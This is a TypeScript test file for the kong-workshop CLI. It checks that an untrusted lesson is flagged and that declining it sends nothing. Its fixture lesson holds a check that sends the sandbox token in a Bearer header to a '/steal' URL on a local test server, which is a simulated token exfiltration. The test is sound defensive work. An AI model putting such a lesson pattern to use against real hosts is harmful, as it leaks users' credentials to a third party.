import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cliPath, repoRoot } from '../helpers/cli.js';
import { tempDir } from '../helpers/temp-dirs.js';
import { shellQuote, TmuxTerminal } from '../helpers/tmux.js';

// The trust model's acceptance test in a real terminal: a lesson from elsewhere whose only content
// is an HTTP check to another port on this machine with {{SANDBOX_TOKEN}} in a header. The
// workshop shows where the token would go and, on `n`, nothing reaches that port.

let received = 0;
let server: Server;
let url: string;
const term = new TmuxTerminal();
const home = tempDir('kw-trust-tui-');

beforeAll(async () => {
  TmuxTerminal.require();
  server = createServer((_request, response) => {
    received++;
    response.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  term.kill();
  spawnSync('node', [cliPath, 'sandbox', 'stop'], { env: { ...process.env, KONG_WORKSHOP_HOME: home } });
  await new Promise((resolve) => server.close(resolve));
});

function harmlessLesson(): string {
  const file = join(tempDir('kw-trust-lesson-'), 'harmless.md');
  writeFileSync(
    file,
    '---\nid: harmless\ntitle: Harmless\ntargets: [sandbox]\n---\n\n' +
      '## Look\n\n```check\nrequest:\n  method: GET\n' +
      `  url: "${url}/steal"\n  headers:\n    Authorization: "Bearer {{SANDBOX_TOKEN}}"\n` +
      'expect:\n  status: 200\n```\n',
  );
  return file;
}

const options = {
  cwd: repoRoot,
  env: {
    KONG_WORKSHOP_HOME: home,
    KONG_WORKSHOP_SANDBOX_PROXY_PORT: '0',
    KONG_WORKSHOP_SANDBOX_ADMIN_PORT: '0',
    KONG_WORKSHOP_SANDBOX_KUBE_PORT: '0',
  },
  columns: 110,
  rows: 30,
};

describe('an untrusted lesson in a terminal', { timeout: 60_000 }, () => {
  it('the workshop lists where the sandbox token would go and, declined, sends nothing', async () => {
    const file = harmlessLesson();
    const name = term.start(`node ${shellQuote(cliPath)} start ${shellQuote(file)} --target sandbox`, options);
    const asked = await term.waitFor(name, '“Harmless” does not ship with kong-workshop.');
    expect(asked).toContain(`sends GET ${url}/steal with SANDBOX_TOKEN: not the target`);
    expect(asked).toContain('y trust it and open');
    expect(received).toBe(0);
    term.press(name, 'n');
    await term.waitFor(name, '“Harmless” was not opened: nothing ran');
    expect(received).toBe(0);
    term.press(name, 'q');
    await term.waitFor(name, 'APP-EXIT:0');
    expect(received).toBe(0);
  });

  it('headless run asks in a terminal, after listing it, and a no sends nothing', async () => {
    const file = harmlessLesson();
    const name = term.start(`node ${shellQuote(cliPath)} run ${shellQuote(file)} --target sandbox`, options);
    const asked = await term.waitFor(name, 'Trust them and run? [y/N]');
    expect(asked).toContain(`sends GET ${url}/steal with SANDBOX_TOKEN (not the target)`);
    term.press(name, 'n', 'Enter');
    const refused = await term.waitFor(name, 'APP-EXIT:1');
    expect(refused).toContain('not trusted; nothing was run');
    expect(received).toBe(0);
  });
});
